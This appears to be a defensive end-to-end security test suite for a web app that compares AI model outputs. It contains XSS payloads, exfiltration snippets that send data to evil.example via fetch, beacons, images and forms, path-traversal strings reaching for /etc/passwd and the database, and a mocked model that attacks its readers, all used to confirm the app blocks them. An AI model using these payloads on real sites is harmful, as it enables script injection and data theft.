"""What a hostile model, reader or link could do in a browser, and does not."""

import http.client
import json
import re
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from pathlib import Path
from urllib.parse import urlsplit

import httpx2
import pytest
from playwright.sync_api import Page, Route, expect

from advisor.case.case import Case
from advisor.case.case_file import load_sample
from advisor.case.options import Arm
from advisor.runs.compare import compare
from advisor.store.repository import Store

from .server import TITLES, replayed, running, settled, unfolded
from .test_sharing import share

pytestmark = pytest.mark.e2e

EVIL = "http://evil.example"
HOSTILE = (
    f"![see]({EVIL}/b.png)<script>window.pwned = 1</script>"
    f"<img src={EVIL}/a.png onerror='window.pwned = 1'> "
    "[click](javascript:window.pwned=1) <a href='javascript:pwned=1'>x</a>"
    f"<svg onload='window.pwned=1'><iframe src={EVIL}/c></iframe><link rel=stylesheet href={EVIL}/d>"
    f"<style>@import '{EVIL}/e'; body {{ background: url({EVIL}/f) }}</style> :material/home: $x$ "
    "</textarea></code></pre>{{constructor.constructor('window.pwned=1')()}} \u202etxet"
)
"""Markup that runs a script, or asks another host for an image: how texts are carried off.

The image stands first: a line that begins with a tag is all of it HTML to Markdown, image and all.
"""


def says_hostile(request: httpx2.Request) -> httpx2.Response:
    """A model that has been talked into attacking whoever reads it."""
    message = {"role": "assistant", "content": HOSTILE}
    return httpx2.Response(
        200,
        json={
            # As asked: one model behind both options would end the run after its first text.
            "model": json.loads(request.content)["model"],
            "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
            "usage": {"prompt_tokens": 900, "completion_tokens": 99, "total_tokens": 999},
        },
    )


def hostile_case() -> Case:
    """A case whose every word is hostile."""
    sample = load_sample("clinic_notes")
    prompts = tuple(
        prompt.model_copy(update={"text": f"{HOSTILE} {n}", "reference": HOSTILE})
        for n, prompt in enumerate(sample.prompts[:4])
    )
    arms = {
        name: Arm(
            endpoint="http://127.0.0.1:9/v1", model=f"{HOSTILE} {name}", system_prompt=HOSTILE
        )
        for name in ("base", "tuned")
    }
    changed = {"title": HOSTILE[:200], "prompts": prompts, "arms": arms, "recorded": None}
    return sample.model_copy(update=changed)


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, str]]:
    """A server with that case on it, run to its end; and the case's id."""
    folder = tmp_path_factory.mktemp("attacked")
    store = Store.open(folder / "cases.db")
    transport = httpx2.MockTransport(says_hostile)
    arms = {"base": transport, "tuned": transport}
    with ThreadPoolExecutor() as beside:  # Playwright has an event loop in this thread
        ended = beside.submit(compare, hostile_case(), store, transports=arms).result()
    assert ended.done == 8
    store.close()
    with running(folder) as url:
        yield url, ended.case_id


@pytest.fixture(autouse=True)
def no_dialog(page: Page) -> None:
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))


def unharmed(page: Page) -> None:
    """No script ran, and nothing hostile became an element. `quiet` sees to requests."""
    assert page.evaluate("() => window.pwned") is None
    found = page.evaluate(
        """() => [...document.querySelectorAll('img, iframe, link, a, script, form, object, embed')]
                 .flatMap(e => [e.src, e.href, e.action, e.data])
                 .filter(said => typeof said == 'string' && said)
                 .map(said => new URL(said, location))
                 .filter(to => /evil/.test(to.host) || to.protocol == 'javascript:')
                 .map(String)"""
    )
    assert found == []


@pytest.mark.parametrize("path", TITLES)
def test_hostile_texts_and_answers_stay_texts_on_every_page(
    page: Page, attacked: tuple[str, str], path: str
):
    url, case_id = attacked
    page.goto(f"{url}/{path}?case={case_id}")
    settled(page, TITLES[path])
    expect(page.get_by_text("<script>window.pwned").first).to_be_attached()
    unharmed(page)


def test_hostile_texts_in_every_fold_of_the_verdict_and_on_the_shared_report_stay_texts(
    page: Page, stranger: Page, attacked: tuple[str, str]
):
    url, case_id = attacked
    link = share(page, url, case_id)
    unharmed(unfolded(page))
    reached: list[str] = []
    stranger.on("request", lambda request: reached.append(request.url))
    stranger.goto(link)
    settled(stranger)
    expect(stranger.get_by_text("<script>").first).to_be_visible()
    unharmed(stranger)
    assert [asked for asked in reached if "evil" in asked] == []


# Should a control ever fail, the policy of the page still stands.


def blocked(page: Page, script: str) -> list[str]:
    """The rules a script in the page runs into: until none more for a while, or in half a second."""
    return page.evaluate(
        f"""async () => {{
            const met = [];
            await new Promise(async done => {{
                document.addEventListener('securitypolicyviolation', event => {{
                    met.push(event.effectiveDirective);
                    setTimeout(done, 100);
                }});
                setTimeout(done, 500);
                try {{ {script} }} catch (error) {{ }}
            }});
            return met;
        }}"""
    )


ATTACKS = {
    "an image": (f"new Image().src = '{EVIL}/x?stolen'", "img-src"),
    "a request": (f"await fetch('{EVIL}/x')", "connect-src"),
    "a web socket": ("new WebSocket('ws://evil.example/')", "connect-src"),
    "a beacon": (f"navigator.sendBeacon('{EVIL}/x', 'stolen')", "connect-src"),
    "a script elsewhere": (
        f"const s = document.createElement('script'); s.src = '{EVIL}/x.js'; document.head.append(s)",
        "script-src-elem",
    ),
    "a script in the page": (
        "const s = document.createElement('script'); s.text = 'pwned = 1'; document.head.append(s)",
        "script-src-elem",
    ),
    "a handler": (
        "const d = document.createElement('div'); d.innerHTML = '<img src=data: onerror=pwned=1>';"
        "document.body.append(d)",
        "script-src-attr",
    ),
    "a text run as a script": ("setTimeout('pwned = 1')", "script-src"),
    "a frame": (
        f"const f = document.createElement('iframe'); f.src = '{EVIL}'; document.body.append(f)",
        "frame-src",
    ),
    "an object": (
        f"const o = document.createElement('object'); o.data = '{EVIL}'; document.body.append(o)",
        "object-src",
    ),
    "a style sheet": (
        "const l = document.createElement('link'); l.rel = 'stylesheet';"
        f"l.href = '{EVIL}/x.css'; document.head.append(l)",
        "style-src-elem",
    ),
    "a font": (f"await new FontFace('x', 'url({EVIL}/x)').load()", "font-src"),
    "another base": (
        f"const b = document.createElement('base'); b.href = '{EVIL}'; document.head.append(b)",
        "base-uri",
    ),
    "a form": (
        f"const f = document.createElement('form'); f.action = '{EVIL}'; document.body.append(f);"
        "f.submit()",
        "form-action",
    ),
}
"""What markup would do that got into a page, and the rule that stops it."""


def test_markup_that_got_into_a_page_could_still_send_nothing_off(stranger: Page, url: str):
    left: list[str] = []

    def reach(route: Route) -> None:
        left.append(route.request.url)
        route.abort()

    stranger.route(re.compile(r"evil\.example"), reach)
    stranger.goto(url)
    settled(stranger, TITLES[""])
    met = {name: blocked(stranger, script) for name, (script, _) in ATTACKS.items()}
    assert left == []
    missed = {name: met[name] for name, (_, rule) in ATTACKS.items() if rule not in met[name]}
    assert missed == {}
    assert stranger.evaluate("() => window.pwned") is None


def ask(url: str, path: str, **headers: str) -> http.client.HTTPResponse:
    """A plain request, its Host as given."""
    at = urlsplit(url)
    connection = http.client.HTTPConnection(at.hostname or "", at.port, timeout=60)
    connection.putrequest("GET", path, skip_host="Host" in headers)
    for name, value in headers.items():
        connection.putheader(name.replace("_", "-"), value)
    connection.endheaders()
    answer = connection.getresponse()
    answer.body = answer.read()  # type: ignore[attr-defined]
    connection.close()
    return answer


@pytest.mark.parametrize(
    "path", ["/", "/verdict", "/report", "/vote", "/_stcore/health", "/none.js"]
)
def test_every_answer_carries_the_headers(url: str, path: str):
    answer = ask(url, path)
    policy = answer.headers["Content-Security-Policy"]
    for rule in (
        "default-src 'self'",
        "img-src 'self' data: blob:",
        "object-src 'none'",
        "base-uri 'none'",
        "form-action 'self'",
        "frame-ancestors 'self'",
    ):
        assert rule in policy
    assert "unsafe-inline" not in policy.partition("script-src")[2].partition(";")[0]
    assert "unsafe-eval" not in policy
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Referrer-Policy"] == "no-referrer"
    assert "camera=()" in answer.headers["Permissions-Policy"]


UPGRADE = {
    "Connection": "Upgrade",
    "Upgrade": "websocket",
    "Sec_WebSocket_Version": "13",
    "Sec_WebSocket_Key": "dGhlIHNhbXBsZSBub25jZQ==",
}


@pytest.fixture(scope="module")
def named_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("named")


@pytest.fixture(scope="module")
def named(named_folder: Path) -> Iterator[str]:
    """A server that says by which names it is reached."""
    names = "tuning.example.com, *.example.org, localhost"
    with running(named_folder, WORTH_TUNING_HOSTNAMES=names) as url:
        yield url


@pytest.mark.parametrize(
    ("wanted", "status"),
    [
        ("tuning.example.com", 200),
        ("TUNING.example.com:443", 200),
        ("a.example.org", 200),
        ("evil.example", 400),
        ("tuning.example.com.evil.example", 400),
        ("eviltuning.example.com", 400),
        ("evilexample.org", 400),
        ("127.0.0.1", 400),
        ("tuning.example.com@evil.example", 400),
        ("", 400),
    ],
)
def test_a_request_for_another_name_is_refused_and_so_is_its_session(
    named: str, wanted: str, status: int
):
    for path in ("/", "/verdict", "/report.pdf?share=x"):
        answer = ask(named, path, Host=wanted)
        assert answer.status == (404 if status == 200 and "pdf" in path else status)
        assert b"evil" not in answer.body  # type: ignore[attr-defined]
    session = ask(named, "/_stcore/stream", Host=wanted, **UPGRADE)
    assert session.status == (101 if status == 200 else session.status)
    assert (session.status == 101) is (status == 200)


def test_whether_the_server_lives_is_told_to_whoever_asks(named: str):
    assert ask(named, "/_stcore/health", Host="10.0.0.7:8501").status == 200


def test_another_site_opens_no_session_with_a_readers_cookies(url: str):
    theirs = ask(url, "/_stcore/stream", Origin=EVIL, **UPGRADE)
    ours = ask(url, "/_stcore/stream", Origin=url, **UPGRADE)
    assert (theirs.status, ours.status) == (403, 101)


def test_a_link_is_made_for_the_name_the_owner_uses(page: Page, named: str, named_folder: Path):
    # The browser says where it is; a name the server does not go by opens no session at all.
    assert share(page, named, replayed(named_folder)).startswith(f"{named}/report?share=")


def test_only_a_file_of_the_right_kind_is_served_from_the_static_folder(url: str):
    for path in ("/app/static/../app.py", "/app/static/%2e%2e/app.py", "/app/static/..%2fapp.py"):
        answer = ask(url, path)
        assert b"import streamlit" not in answer.body  # type: ignore[attr-defined]


LONG = "x" * 50_000
ODD = {
    "no token": "/report.pdf",
    "an empty one": "/report.pdf?share=",
    "a long one": f"/report.pdf?share={LONG}",
    "a zero in it": "/report.pdf?share=%00",
    "no UTF-8": "/report.pdf?share=%ff%fe",
    "a path": "/report.pdf?share=..%2f..%2fcases.db",
    "two tokens": "/report.pdf?share=a&share=b",
    "a file above": "/report.pdf/../app.py",
    "a long report": f"/report?share={LONG}",
    "a long ballot": f"/vote?ballot={LONG}",
    "a long case": f"/verdict?case={LONG}",
    "media": "/media/..%2f..%2fcases.db",
    "a part's file": "/component/x/..%2f..%2fapp.py",
    "the client's files": "/static/..%2f..%2f..%2fapp.py",
    "two slashes": "//evil.example/%2e%2e",
    "a backslash": "/app/static/..%5c..%5capp.py",
    "the root": "/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "the numbers": "/metrics",
    "another's file": "/_stcore/upload_file/some-session/some-file",
}
"""Addresses that no page of ours makes."""


@pytest.mark.parametrize("path", ODD.values(), ids=ODD)
def test_an_odd_address_opens_nothing_and_breaks_nothing(url: str, path: str):
    answer = ask(url, path, X_Forwarded_Host="evil.example", X_Forwarded_Proto="javascript")
    body: bytes = answer.body  # type: ignore[attr-defined]
    assert answer.status < 500
    assert not any(secret in body for secret in (b"import streamlit", b"root:", b"SQLite format"))
    assert b"Traceback" not in body
    assert b"evil" not in body
    assert urlsplit(answer.headers.get("Location") or "/").netloc in ("", urlsplit(url).netloc)
    if path.startswith("/report.pdf?"):
        assert (answer.status, b"link" in body) == (404, True)


def test_no_program_drives_the_app_beside_its_pages(url: str):
    # Streamlit has an address for that, which answers whoever asks where it is switched on.
    answer = ask(url, "/_stcore/agent/interact")
    assert answer.status >= 400
    assert ask(url, "/_stcore/agent/mcp").status >= 400


def test_a_header_too_long_is_refused_and_the_server_lives(url: str):
    with suppress(OSError, http.client.HTTPException):  # it may hang up instead
        assert ask(url, "/", X_Long="x" * 1_000_000).status >= 400
    assert ask(url, "/_stcore/health").status == 200


def test_nobody_uploads_into_a_session_that_is_not_theirs(url: str):
    at = urlsplit(url)
    connection = http.client.HTTPConnection(at.hostname or "", at.port, timeout=60)
    body = b'--b\r\nContent-Disposition: form-data; name="f"; filename="f"\r\n\r\nx\r\n--b--\r\n'
    kind = {"Content-Type": "multipart/form-data; boundary=b"}
    connection.request("PUT", "/_stcore/upload_file/another-session/a-file", body, kind)
    answer = connection.getresponse()
    connection.close()
    assert answer.status in (400, 403)
